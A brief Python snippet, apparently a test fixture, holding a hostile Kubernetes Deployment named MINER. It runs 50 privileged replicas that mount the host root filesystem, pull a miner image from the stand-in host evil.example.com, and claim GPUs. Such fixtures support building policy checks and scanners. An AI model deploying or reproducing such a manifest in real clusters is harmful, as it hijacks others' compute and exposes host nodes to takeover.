"""An object that uses the GPUs and the node for its author."""

MINER = """\
apiVersion: apps/v1
kind: Deployment
metadata: {name: zz, namespace: team}
spec:
  replicas: 50
  selector: {matchLabels: {a: b}}
  template:
    metadata: {labels: {a: b}}
    spec:
      volumes: [{name: root, hostPath: {path: /}}]
      containers:
      - name: zz
        image: evil.example.com/miner:1
        securityContext: {privileged: true}
        resources: {limits: {nvidia.com/gpu: 8}}
"""
